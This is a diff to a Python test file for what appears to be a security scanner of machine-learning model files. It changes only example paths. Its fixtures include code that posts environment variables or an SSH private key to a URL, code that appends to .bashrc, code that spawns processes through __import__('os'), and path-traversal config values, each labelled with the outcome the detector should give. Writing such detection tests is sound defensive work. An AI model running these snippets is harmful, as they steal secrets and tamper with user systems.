@@ -295,7 +295,7 @@ def test_yaml_is_read_as_loaders_that_build_objects_would(
         ("config.pbtxt", 'default_model_filename: "../../other.onnx"', "outside-path"),
         (
             "config.pbtxt",
-            'parameters: {key: "EXECUTION_ENV_PATH", value: {string_value: "/tmp/env.tar.gz"}}',
+            'parameters: {key: "EXECUTION_ENV_PATH", value: {string_value: "/opt/env.tar.gz"}}',
             "outside-path",
         ),
         ("pickle_module_info.txt", "mlflow.pytorch.pickle_module", None),
@@ -347,7 +347,7 @@ ANYWHERE = [
     ),
     ("import os, requests\nrequests.post(u, json=dict(os.environ))", "secrets-sent"),
     ("import os, requests\ne = dict(os.environ)\nx = str(e)\nrequests.post(u, x)", "secrets-sent"),
-    ("import httpx\nk = open('/root/.ssh/id_rsa').read()\nhttpx.post(u, data=k)", "secrets-sent"),
+    ("import httpx\nk = open('/home/a/.ssh/id_rsa').read()\nhttpx.post(u, data=k)", "secrets-sent"),
 ]
 ORDINARY = [
     "import base64\nimage = base64.b64decode(text)",
@@ -422,7 +422,7 @@ LOADING = [
     ({"MADE": "self.act = eval(config.act)"}, Outcome.UNDECIDED),
     ({"import math": "import subprocess; subprocess.Popen(['true'])"}, Outcome.FAILED),
     ({"import math": "import requests; requests.get('http://a.example')"}, Outcome.FAILED),
-    ({"import math": "open('/root/.bashrc', 'a').write('true')"}, Outcome.FAILED),
+    ({"import math": "open('/home/a/.bashrc', 'a').write('true')"}, Outcome.FAILED),
     ({"import math": "x = lambda: __import__('os').system('true')"}, None),
     ({"import math": "def f(x=__import__('os').system('true')): pass"}, Outcome.FAILED),
 ]
